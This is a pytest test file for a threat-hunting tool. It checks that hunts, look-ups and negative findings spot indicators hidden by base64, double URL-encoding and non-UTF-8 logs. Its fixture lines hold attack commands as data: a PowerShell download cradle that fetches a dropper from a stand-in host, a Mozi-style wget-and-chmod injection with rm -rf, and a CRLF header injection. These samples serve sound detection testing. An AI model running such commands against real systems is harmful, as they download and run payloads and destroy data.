# SPDX-License-Identifier: Apache-2.0
"""What attackers write otherwise than it is, in logs as programs write them: hunts, look-ups and negative findings see the same."""
import base64
import json

import pytest

from conftest import run


def encoded(text):
    return base64.b64encode(text.encode("utf-16-le")).decode()


SCRIPT = "IEX (New-Object Net.WebClient).DownloadFile('http://stage.example/b.ps1','C:\\Users\\Public\\dropper.exe'); ping 203.0.113.99"
NESTED = f"powershell.exe -e {encoded('curl http://inner.example/x')}"
LINES = [
    {"CommandLine": f"powershell.exe -NoP -EncodedCommand {encoded(SCRIPT)}"},
    {"CommandLine": f"cmd /c powershell -enc \"{encoded(NESTED)}\""},
    {"url": "https://portal.example/go?u=http%253A%252F%252Ftwice.example%252Fa"},
    {"url": "https://portal.example/get?f=C%3A%5CUsers%5CPublic%5Cform.exe"},
    {"request_body": "path=%2Fvar%2Ftmp%2Fimplant.sh&upload=C%3A%5Cmy%20tool.exe"},
    {"User": "CORP%5Cmallory"},
    {"CommandLine": f"certutil {base64.b64encode(b'http://bytes.example/a').decode()} 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},
]
THERE = ["stage.example", "http://stage.example/b.ps1", "203.0.113.99", "C:\\Users\\Public\\dropper.exe", "inner.example", "twice.example", "http://twice.example/a",
         "C:\\Users\\Public\\form.exe", "/var/tmp/implant.sh"]
NOT_SEEN = ["bytes.example", "203.0.113.98"]


@pytest.fixture
def log(empty_case, tmp_path):
    path = tmp_path / "win.jsonl"
    path.write_text("".join(json.dumps({"@timestamp": "2024-03-01T08:00:00Z", **line}) + "\n" for line in LINES))
    return path


def test_hunt_and_lookup_find_what_is_in_disguise(log, tmp_path):
    listed = tmp_path / "list.txt"
    listed.write_text("".join(value + "\n" for value in THERE + NOT_SEEN))
    (tmp_path / "user.csv").write_text("type,value\nuser,CORP\\mallory\nfile-name,my tool.exe\n")
    done = run("hunt", log, "--intel", listed, tmp_path / "user.csv", "--format", "jsonl")
    assert len(done.rows) == len(THERE) + 2, done.err
    assert run("ingest", log, "--tenant", "alpha").status == 0
    for value in THERE:
        row = run("lookup", value, "--format", "jsonl").rows[0]
        assert row["seen"] and row["count"] == 1, row
    for kind, value in (("user", "CORP\\mallory"), ("file-name", "my tool.exe")):
        (row,) = run("lookup", value, "--kind", kind, "--format", "jsonl").rows
        assert row["seen"] and row["count"] == 1, row
    for value in NOT_SEEN:
        assert not run("lookup", value, "--format", "jsonl").rows[0]["seen"]


def test_a_finding_shows_what_the_log_has(log, tmp_path):
    (tmp_path / "list.txt").write_text("inner.example\n")
    (row,) = run("hunt", log, "--intel", tmp_path / "list.txt", "--format", "jsonl").rows
    assert "powershell -enc" in json.dumps(row["matched"])
    done = run("ingest", log, "--tenant", "alpha")
    assert done.status == 0
    done = run("evidence", "negative", "--question", "Was it there?", "--tenant", "alpha", "--intel", tmp_path / "list.txt")
    assert done.status == 1, "it was there"


PROSE = [  # what programs write around values in a syslog
    "GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/Mozi.a;chmod+777+Mozi.a",
    "GET /r?u=a%0d%0aHost:%20crlf.example%00 HTTP/1.1",
    "assigning 2001:db8::1...2001:db8::9 to pool",
    "\U0001f6a8emoji.example\U0001f6a8 \ufffdreplaced.example",
    "moved C:\\Temp\\arrow.exe->D:\\x.exe",
]
IN_PROSE = ["http://198.51.100.7/Mozi.a", "crlf.example", "2001:db8::9", "emoji.example", "replaced.example", "C:\\Temp\\arrow.exe"]


def test_what_stands_beside_signs_is_found(empty_case, tmp_path):
    path = tmp_path / "prose.log"
    path.write_text("".join(f"2024-03-01T08:00:0{i}Z web1 app: {line}\n" for i, line in enumerate(PROSE)))
    (tmp_path / "list.txt").write_text("".join(value + "\n" for value in IN_PROSE))
    done = run("hunt", path, "--intel", tmp_path / "list.txt", "--format", "jsonl")
    assert len(done.rows) == len(IN_PROSE), done.err
    assert run("ingest", path, "--tenant", "alpha").status == 0
    for value in IN_PROSE:
        assert run("lookup", value, "--format", "jsonl").rows[0]["seen"], value


def test_of_a_log_that_is_no_utf8_ascii_is_found_and_the_rest_told(empty_case, tmp_path):
    path = tmp_path / "ansi.log"
    path.write_bytes("".join(f"2024-03-01T08:00:0{i}Z pc1 app: {line}\n" for i, line in enumerate(
        ["Zugriff auf \u201equoted.example\u201c verweigert", "C:\\Temp\\J\u00f6rg.exe", "plain"])).encode("cp1252"))
    (tmp_path / "list.txt").write_text("quoted.example\n")
    done = run("hunt", path, "--intel", tmp_path / "list.txt", "--format", "jsonl")
    assert len(done.rows) == 1 and "warning[BT0227]: 2 lines are no UTF-8" in done.err, done.err
    told = run("ingest", path, "--tenant", "alpha")
    assert told.status == 0 and "BT0227" in told.err
    assert run("lookup", "quoted.example", "--format", "jsonl").rows[0]["seen"]
    (row,) = run("lookup", "C:\\Temp\\J\u00f6rg.exe", "--format", "jsonl").rows
    assert row["coverage"] == "partial" and "2 records hold bytes that are no UTF-8" in json.dumps(row["not_looked"])
    assert run("lookup", "C:\\Temp\\other.exe", "--format", "jsonl").rows[0]["coverage"] == "complete"
